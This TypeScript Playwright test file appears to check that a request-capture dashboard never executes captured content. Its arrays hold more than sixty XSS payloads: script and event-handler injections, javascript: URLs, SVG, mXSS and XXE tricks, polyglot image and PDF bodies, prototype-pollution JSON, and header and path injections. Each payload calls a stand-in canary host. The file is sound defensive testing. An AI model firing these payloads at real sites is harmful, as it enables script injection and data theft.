// Captured content never runs in the dashboard (ASVS 3.2, 5.4). Sixty payloads in the body, headers, path, query and method are shown in
// the list and in every view of the details: no dialog, no request to the canary, no violation of the content security policy.
import { unsavedId } from '@creel/contract';
import { z } from 'zod';
import { exchange } from '../fixtures/raw-http.ts';
import { expect, test } from './app.ts';
import { createEndpoint, detailsOf, goTo, openLive, row, send } from './endpoints.ts';

const CANARY = 'canary.invalid';
const RUN = `alert(1);fetch('//${CANARY}/x')`;
const LOAD = `http://${CANARY}/l`;

/** Content type and body. */
const BODIES: readonly (readonly [string, string])[] = [
  ['text/html', `<script>${RUN}</script>`],
  ['text/html', `<!doctype html><html><body onload="${RUN}"><h1>hi</h1></body></html>`],
  ['text/html', `<img src=x onerror="${RUN}">`],
  ['text/html', `<img src="${LOAD}"><link rel="stylesheet" href="${LOAD}"><link rel="prefetch" href="${LOAD}">`],
  ['text/html', `<svg onload="${RUN}"></svg>`],
  ['text/html', `<svg><script>${RUN}</script></svg>`],
  ['text/html', `<svg><animate onbegin="${RUN}" attributeName="x" dur="1s"></svg>`],
  [
    'text/html',
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"/></svg>`,
  ],
  ['text/html', `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`],
  ['text/html', `<iframe src="javascript:${RUN}"></iframe>`],
  ['text/html', `<iframe src="${LOAD}"></iframe>`],
  ['text/html', `<meta http-equiv="refresh" content="0;url=${LOAD}">`],
  ['text/html', `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`],
  ['text/html', `<form action="${LOAD}"><input name=q autofocus onfocus="${RUN}"><button>go</button></form>`],
  ['text/html', `<base href="${LOAD}/"><script src="x.js"></script>`],
  ['text/html', `<object data="${LOAD}"></object><embed src="${LOAD}">`],
  ['text/html', `<a href="javascript:${RUN}">click</a>`],
  ['text/html', `<a href="data:text/html,<script>${RUN}</script>">click</a>`],
  ['text/html', `<details open ontoggle="${RUN}">x</details>`],
  ['text/html', `<video><source onerror="${RUN}"></video><audio src=x onerror="${RUN}"></audio>`],
  ['text/html', `<body background="${LOAD}"><table background="${LOAD}"></table>`],
  ['text/html', `<style>@import url("${LOAD}"); body{background:url("${LOAD}")}</style>`],
  ['text/html', `<div style="background-image:url('${LOAD}')">x</div>`],
  ['text/html', `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`],
  ['text/html', `<math href="javascript:${RUN}">x</math>`],
  ['text/html', `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`],
  ['text/html', `<template><script>${RUN}</script></template>`],
  ['text/html', `<script src="${LOAD}"></script>`],
  ['text/html', `<script type="module">import '${LOAD}'</script>`],
  ['text/html', `<input type="image" src="${LOAD}" onerror="${RUN}">`],
  ['text/html', `<marquee onstart="${RUN}">x</marquee>`],
  ['text/html', `<select autofocus onfocus="${RUN}"></select>`],
  ['text/html', `<xss id=x tabindex=1 onfocus="${RUN}"></xss>`],
  ['text/html', `<!--><script>${RUN}</script>-->`],
  ['image/svg+xml', `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><image href="${LOAD}"/></svg>`],
  [
    'image/svg+xml',
    `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "${LOAD}">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text><script>${RUN}</script></svg>`,
  ],
  [
    'image/svg+xml',
    `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${LOAD}"/></foreignObject></svg>`,
  ],
  ['application/xml', `<?xml-stylesheet type="text/xsl" href="${LOAD}"?><x/>`],
  ['application/xml', `<x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>${RUN}</h:script></x>`],
  ['application/xhtml+xml', `<html xmlns="http://www.w3.org/1999/xhtml"><script>${RUN}</script></html>`],
  ['image/png', `<script>${RUN}</script>`],
  ['image/png', `\x89PNG\r\n\x1a\n<svg onload="${RUN}"><script>${RUN}</script>`],
  ['image/gif', `GIF89a/*<svg/onload="${RUN}">*/=1;${RUN}`],
  ['application/pdf', `%PDF-1.4 <script>${RUN}</script> 1 0 obj<</OpenAction<</S/JavaScript/JS(${RUN})>>>>`],
  ['application/json', JSON.stringify({ '</script><script>': `</script><script>${RUN}</script>` })],
  ['application/json', JSON.stringify({ html: `<img src=x onerror="${RUN}">`, __proto__x: { isAdmin: true } })],
  ['application/json', `{"__proto__":{"onload":"${RUN}"},"constructor":{"prototype":{"x":1}}}`],
  ['application/json', `["javascript:${RUN}","${LOAD}","data:text/html,<script>${RUN}</script>"]`],
  [
    'application/x-www-form-urlencoded',
    `a=${encodeURIComponent(`<script>${RUN}</script>`)}&<img src=x onerror=${RUN}>=1`,
  ],
  ['text/css', `body{background:url(${LOAD})} @import "${LOAD}";`],
  ['application/javascript', RUN],
  ['text/plain', `"><script>${RUN}</script>`],
  ['text/plain', `'-${RUN}-'`],
  ['text/plain', `{{constructor.constructor('${RUN}')()}} \${${RUN}} <%= 1 %>`],
  [
    'multipart/form-data; boundary=b',
    `--b\r\nContent-Disposition: form-data; name="<img src=x onerror=${RUN}>"; filename="<svg onload=${RUN}>.svg"\r\nContent-Type: image/svg+xml\r\n\r\n<svg onload="${RUN}"/>\r\n--b--`,
  ],
  [`text/html"><img src=x onerror=${RUN}>`, 'a content type that is a payload'],
];

/** Requests whose payload is not in the body: header values, user agent, query, path, method. */
const HEADS: readonly string[] = [
  `POST @/q?x=%3Cscript%3E${encodeURIComponent(RUN)}%3C/script%3E&%3Cimg%20src=x%20onerror=alert(1)%3E=1 HTTP/1.1\r\nX-A: <script>${RUN}</script>\r\n`,
  `POST @/<img/src=x/onerror=alert(1)> HTTP/1.1\r\nUser-Agent: Mozilla/5.0 <img src=x onerror=${RUN}>\r\nX-GitHub-Event: <svg onload=${RUN}>\r\n`,
  `POST @/javascript:alert(1)//"onmouseover="alert(1) HTTP/1.1\r\nX-Shopify-Topic: "><script>${RUN}</script>\r\nReferer: javascript:${RUN}\r\n`,
  `PROPFIND @/data:text/html,<script>alert(1)</script> HTTP/1.1\r\nCookie: a=<script>${RUN}</script>\r\nContent-Encoding: <b>br</b>\r\n`,
];

async function sendHead(captureUrl: string, head: string): Promise<void> {
  const { hostname, port, pathname } = new URL(captureUrl);
  const rest = `Host: ${hostname}:${port}\r\nContent-Length: 2\r\nConnection: close\r\n\r\nhi`;
  const answer = await exchange({ port: Number(port), host: hostname }, head.replace('@', pathname) + rest);
  expect(answer.status).toBe(200);
}

/**
 * Runs in the page: opens tabs of a tab list, by default all, and waits until each is drawn. Returns the names of these tabs and of those
 * that were shown.
 */
const showEach = (list: string, name = '') => `(async () => {
  const tabs = [...document.querySelectorAll('[role="tablist"][aria-label="${list}"] [role="tab"]')]
    .filter((tab) => tab.textContent.includes('${name}'));
  const shown = [];
  for (const tab of tabs) {
    tab.focus();
    await new Promise((drawn) => requestAnimationFrame(() => setTimeout(drawn)));
    if (tab.ariaSelected === 'true') shown.push(tab.textContent);
  }
  return { all: tabs.map((tab) => tab.textContent), shown };
})()`;
const shownSchema = z.object({ all: z.string().array().min(1), shown: z.string().array() });

test('none of sixty captured payloads runs', async ({ page, context, person }) => {
  expect(person.username).toBeTruthy();
  expect(BODIES.length + HEADS.length).toBeGreaterThanOrEqual(60);
  const endpoint = await createEndpoint(page, `<img src=x onerror=${RUN}>`.slice(0, 100));
  const found: string[] = [];
  page.on('dialog', (dialog) => {
    found.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  context.on('request', (request) => {
    if (request.url().includes(CANARY)) found.push(`request: ${request.url()}`);
  });
  page.on('console', (message) => {
    if (/Content Security Policy/i.test(message.text())) found.push(`policy: ${message.text()}`);
  });
  context.on('page', (opened) => {
    if (opened !== page) found.push(`window: ${opened.url()}`);
  });

  for (const [contentType, body] of BODIES) {
    await send(endpoint.url, { body: Buffer.from(body, 'latin1'), headers: { 'content-type': contentType } });
  }
  for (const head of HEADS) await sendHead(endpoint.url, head);
  await openLive(page, endpoint);
  const count = BODIES.length + HEADS.length;
  const contentTypes = new Set<string>();
  await expect(row(page, count - 1)).toBeVisible();
  for (let index = count - 1; index >= 0; index--) {
    const details = detailsOf(page, index);
    await expect(details).toBeVisible();
    await page.keyboard.press('4');
    await expect(details.getByRole('tablist', { name: 'View of the body' })).toBeVisible();
    // Without its body, a request looks like the others of its content type.
    const contentType = BODIES[index]?.[0];
    const onlyBodyIsNew = contentType !== undefined && contentTypes.has(contentType);
    if (contentType !== undefined) contentTypes.add(contentType);
    for (const tabs of [showEach('View of the body'), showEach('Parts of the request', onlyBodyIsNew ? 'JSON' : '')]) {
      const { all, shown } = shownSchema.parse(await page.evaluate(tabs));
      expect(shown, `payload ${index}`).toEqual(all);
    }
    expect(found, `payload ${index}`).toEqual([]);
    await page.keyboard.press('j');
  }
  await goTo(page, `/endpoints/${endpoint.uid}?request=0&compare=1`);
  await expect(page.getByRole('region', { name: 'Compare requests' })).toBeVisible();
  await goTo(page, `/search?q=${encodeURIComponent('<script>')}`);
  await expect(page.getByText('<script>').first()).toBeVisible();
  expect(found).toEqual([]);
});

/** Runs in the page: tries to run the content of a URL in the dashboard's origin. Returns what ran. */
const runAs = (url: string) => `(async () => {
  const ran = [];
  await navigator.serviceWorker.register('${url}').then(() => ran.push('service worker'), () => {});
  await new Promise((done) => {
    const worker = new Worker('${url}');
    worker.onmessage = () => done(ran.push('worker'));
    worker.onerror = done;
  });
  await import('${url}').then(() => ran.push('module'), () => {});
  return ran;
})()`;

test('no captured script runs as a service worker, a worker or a module of the dashboard', async ({
  page,
  endpoint,
}) => {
  const headers = { 'content-type': 'text/javascript', 'service-worker-allowed': '/' };
  const index = await send(endpoint.url, { path: '/sw.js', body: 'self.postMessage?.(1)', headers });
  await openLive(page, endpoint);
  const body = `/api/endpoints/${endpoint.uid}/requests/${unsavedId(index)}/body`;
  for (const url of [new URL(endpoint.url).pathname, body]) expect(await page.evaluate(runAs(url)), url).toEqual([]);
});

test('an answer to a capture opens as a page without an origin', async ({ page, endpoint }) => {
  await page.goto(new URL(endpoint.url).pathname);
  expect(await page.evaluate('self.origin')).toBe('null');
});
